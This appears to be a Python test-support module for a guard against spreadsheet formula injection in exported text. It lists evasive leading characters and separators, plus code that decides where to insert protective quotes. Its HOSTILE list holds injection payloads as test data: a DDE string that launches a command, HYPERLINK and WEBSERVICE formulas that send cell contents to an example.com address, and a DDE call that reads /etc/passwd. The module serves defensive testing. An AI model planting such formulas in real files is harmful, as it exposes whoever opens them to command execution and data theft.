"""Texts that a spreadsheet would run, and readers of the guard that share nothing with its code."""

import unicodedata

STARTS = "=+-@|%"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
LEADS = (
    *("", " ", "   ", "\t", "\r", "\n", "\r\n", "\x01", "\x0b", "\x1f", "\x7f", "\x85", "\xa0"),
    *("\xad", "\u200b", "\u200e", "\u2028", "\u2060", "\u3000", "\ufeff", "\ufe0f"),
    *(" \ufeff\t\u200b ", '"', "'"),
)
SIGNS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "|cmd", "%x"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u22121+1"),
)
HIDDEN = tuple(
    f"text{separator}{lead}=1+1{end}"
    for separator in (";", "\t", "\n", "\r", "\r\n")
    for lead in ("", " ", '"', "'", "\ufeff")
    for end in ("", ";", ";text", "\ttext")
)
"""Formulas that only a reader with another separator finds."""
HOSTILE = (
    FORMULA,
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.com/"&A1)',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "{=1+1}",
    *(lead + sign for lead in LEADS for sign in SIGNS),
    *HIDDEN,
)

ALPHABET = "a1;,\t\r\n'\" =+-@|%\uff1d\ufeff\u200b\xa0[]"
"""Random texts of these are hostile often enough."""

# What shows nothing and yet is a letter, a symbol or a mark to Unicode.
_SHOW_NOTHING = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0\ufffc"
_SELECTORS = (range(0xFE00, 0xFE10), range(0xE0100, 0xE01F0))


def may_pass_over(char: str) -> bool:
    """Whether a program may skip it: controls, blanks, marks that show nothing, quotes."""
    if char in "'\"" or char in _SHOW_NOTHING or any(ord(char) in each for each in _SELECTORS):
        return True
    return unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp")


def may_start_formula(char: str) -> bool:
    """Whether a formula may start with it, in any width."""
    return unicodedata.normalize("NFKC", char)[:1] in (*STARTS, "\u2212")


def runs_formula(text: str, *, first: bool) -> bool:
    """Whether a cell that starts with this text must not be left to a spreadsheet."""
    for char in text:
        if may_start_formula(char) or (first and char in "\t\r\n"):
            return True
        if not may_pass_over(char):
            return False
    return False


def find_places(text: str) -> list[int]:
    """Where a guard belongs in a text: at its start, and after what may separate cells."""
    found = [0] if runs_formula(text, first=True) else []
    later = (i for i in range(1, len(text)) if text[i - 1] in ";\t\r\n")
    return found + [i for i in later if runs_formula(text[i:], first=False)]


def add_guards(text: str) -> str:
    """The text as a guarded file has it."""
    for place in reversed(find_places(text)):
        text = f"{text[:place]}'{text[place:]}"
    return text


def remove_guards(text: str) -> str:
    """The text that a guarded file's cell stands for: one quote less at each place."""
    for place in reversed(find_places(text)):
        if text[place] == "'":
            text = text[:place] + text[place + 1 :]
    return text
